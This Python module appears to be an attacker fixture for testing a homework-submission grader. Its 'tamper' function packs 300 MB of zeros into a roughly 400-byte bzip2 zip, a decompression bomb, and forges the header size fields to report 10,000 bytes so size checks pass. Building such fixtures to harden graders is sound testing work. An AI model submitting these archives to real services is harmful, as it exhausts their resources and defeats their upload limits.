"""Hand in an archive of four hundred bytes that bzip2, which unpacks at one go, turns into 300 megabytes."""

import io
import zipfile

from nbformat import NotebookNode

NAME = "mallory-hw1.zip"


def tamper(notebook: NotebookNode) -> bytes:
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_BZIP2) as archive,
        archive.open("hw1.ipynb", "w") as member,
    ):
        for _ in range(300):
            member.write(bytes(2**20))
    size, lie = (300 * 2**20).to_bytes(4, "little"), (10_000).to_bytes(4, "little")
    return packed.getvalue().replace(size, lie)
